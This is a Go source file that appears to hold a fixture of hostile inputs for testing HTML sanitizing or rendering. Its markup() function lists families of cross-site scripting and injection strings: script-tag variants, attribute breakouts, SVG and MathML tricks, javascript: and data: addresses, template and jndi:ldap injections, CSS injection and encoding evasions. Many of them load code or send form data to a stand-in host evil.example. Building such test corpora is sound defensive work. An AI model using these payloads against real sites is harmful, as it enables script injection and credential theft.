package hostile

import "strings"

// owned is what a script does that runs.
const owned = "window.__owned=1"

// markup attacks readers of HTML and what can stand in it.
func markup() []Family {
	return []Family{
		{"script elements", []string{
			"<script>" + owned + "</script>", "<SCRIPT>" + owned + "</SCRIPT>", "<ScRiPt >" + owned + "</sCrIpT >", "<script\n>" + owned + "</script\n>",
			"<script/x>" + owned + "</script>", "<script src=//evil.example/a.js></script>", "<script src='https://evil.example/b.js' async></script>",
			"<script type=module>" + owned + "</script>", "<script>" + owned, "<scr<script>ipt>" + owned + "</scr</script>ipt>",
			"</script><script>" + owned + "</script>", "</title><script>" + owned + "</script>", "</textarea><script>" + owned + "</script>",
			"</style><script>" + owned + "</script>", "</noscript><script>" + owned + "</script>", "<noscript><p title=\"</noscript><script>" + owned + "</script>\">",
			"<script>/*\n*/" + owned + "</script>", "<script\x0b>" + owned + "</script>", "<\x00script>" + owned + "</script>", "<script type=\"text/template\">{{x}}</script>",
		}},
		{"attributes", []string{
			`"><img src=x onerror=` + owned + `>`, `'><img src=x onerror=` + owned + `>`, `"><svg/onload=` + owned + `>`, `" onmouseover="` + owned, `' onfocus='` + owned + `' autofocus='`,
			"` onclick=`" + owned, `x onmouseover=` + owned, `" autofocus onfocus=` + owned + ` x="`, `" style="position:fixed;inset:0" onpointermove="` + owned, `"/onanimationstart=` + owned + `//`,
			`--><img src=x onerror=` + owned + `>`, `" formaction="javascript:` + owned, `"><input autofocus onfocus=` + owned + `>`, `'-(` + owned + `)-'`, `";` + owned + `;//`, `\";` + owned + `;//`,
			"\"\nonload=\"" + owned, `" srcdoc="<script>` + owned + `</script>`, `" href="javascript:` + owned, `" id="content" class="banner`, `" lang="az" dir="rtl`,
			"\" accesskey=\"x\" onclick=\"" + owned, `" popover ontoggle="` + owned, `" data-row data-keys="`, `=""><b>`,
		}},
		{"elements", []string{
			"<img src=x onerror=" + owned + ">", "<img src=//evil.example/pixel.png>", "<iframe src=\"javascript:parent." + owned + "\"></iframe>", "<iframe srcdoc=\"<script>parent." + owned + "</script>\"></iframe>",
			"<body onload=" + owned + ">", "<details open ontoggle=" + owned + ">", "<video><source onerror=" + owned + "></video>", "<audio src=x onerror=" + owned + ">", "<marquee onstart=" + owned + ">",
			"<object data=\"//evil.example/x.swf\"></object>", "<embed src=//evil.example/x>", "<base href=\"//evil.example/\">", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
			"<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/>",
			"<form action=//evil.example><input name=password><button>Login</button></form>", "<button formaction=//evil.example>Confirm</button>", "<select><option onclick=" + owned + ">x",
			"<template shadowrootmode=open><slot></slot></template>", "<dialog open>Your session ended</dialog>", "<portal src=//evil.example>", "<frameset onload=" + owned + ">",
			"<table background=//evil.example/x.png>", "<input type=image src=x onerror=" + owned + ">", "<keygen autofocus onfocus=" + owned + ">", "<plaintext>", "<xmp>", "</main></body></html>", "<b", "</", "<>", "<?php echo 1 ?>", "<a href=# target=_blank>x</a>",
		}},
		{"drawings", []string{
			"<svg onload=" + owned + ">", "<svg><script>" + owned + "</script></svg>", "<svg><animate onbegin=" + owned + " attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=" + owned + ">",
			"<svg><use href=\"data:image/svg+xml,<svg id=x onload=" + owned + ">#x\">", "<svg><image href=//evil.example/x.svg>", "<svg><foreignObject><iframe src=//evil.example>", "<svg><a xlink:href=\"javascript:" + owned + "\"><text y=20>x",
			"</text></svg><script>" + owned + "</script>", "<svg><style>*{background:url(//evil.example/s)}</style>", "<svg><title><![CDATA[</title><script>" + owned + "</script>]]>", "<math><mi xlink:href=\"javascript:" + owned + "\">x",
			"<math><annotation-xml encoding=\"text/html\"><script>" + owned + "</script>", "<math><mtext><table><mglyph><style><img src=x onerror=" + owned + ">",
		}},
		{"addresses", []string{
			"javascript:" + owned, "JaVaScRiPt:" + owned, "java\nscript:" + owned, "java\tscript:" + owned, "\x01javascript:" + owned, " javascript:" + owned, "javascript://crawled.example/%0a" + owned,
			"javascript&colon;" + owned, "javascript&#58;" + owned, "data:text/html,<script>" + owned + "</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19vd25lZD0xPC9zY3JpcHQ+", "vbscript:msgbox(1)", "file:///etc/passwd",
			"blob:https://evil.example/1", "view-source:https://evil.example/", "//evil.example/path", "\\\\evil.example\\share", "/\\evil.example", "https:evil.example", "https://crawled.example@evil.example/", "https://evil.example/bare",
			"HTTP://EVIL.EXAMPLE/", "www.evil.example", "intent://evil.example#Intent;scheme=http;end", "mailto:a@evil.example?bcc=b@evil.example", "https://[::1]:x/", "http://%00evil.example/", "https://evil.example/\" onclick=\"" + owned, "ftp://evil.example/x", "https://еvil.example/",
		}},
		{"templates", []string{
			"{{.Title}}", "{{template \"run\"}}", "{{printf \"%s\" .}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include \"/etc/passwd\" %}", "[[${7*7}]]", "@{7*7}", "{rule}{id}{count}{time}", "%s%d%n%!x(MISSING)", "${jndi:ldap://evil.example/a}", "{{constructor.constructor('" + owned + "')()}}",
		}},
		{"styles", []string{
			"<style>*{display:none}</style>", "<style>@import url(//evil.example/i.css)</style>", "</style><style>body{background:url(//evil.example/b)}", "x;background:url(//evil.example/c)", "expression(" + owned + ")", "-moz-binding:url(//evil.example/x#y)",
			"<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>", "}*{color:transparent", "\\3c script\\3e ", "*/ body{display:none} /*", "@font-face{font-family:x;src:url(//evil.example/f)}",
		}},
		{"comments and entities", []string{
			"<!--", "-->", "<!-- --><script>" + owned + "</script><!-- -->", "<!--[if IE]><script>" + owned + "</script><![endif]-->", "<![CDATA[<script>" + owned + "</script>]]>", "]]>", "<!DOCTYPE html>", "&lt;script&gt;" + owned + "&lt;/script&gt;",
			"&#60;script&#62;" + owned, "&#x3c;script&#x3e;" + owned, "&amp;lt;script&amp;gt;" + owned, "%3Cscript%3E" + owned + "%3C/script%3E", "%253Cscript%253E" + owned, "\\u003cscript\\u003e" + owned, "\\x3cscript\\x3e" + owned, "&", "&amp", "&#0;", "&NewLine;javascript:" + owned, "&quot;&gt;&lt;img src=x&gt;",
		}},
		{"very long words", []string{
			strings.Repeat("a", 1200), strings.Repeat("ə", 800), strings.Repeat("<b>", 300), strings.Repeat("&", 800), strings.Repeat("\"'", 500), strings.Repeat("W", 500) + "<script>" + owned + "</script>",
		}},
	}
}
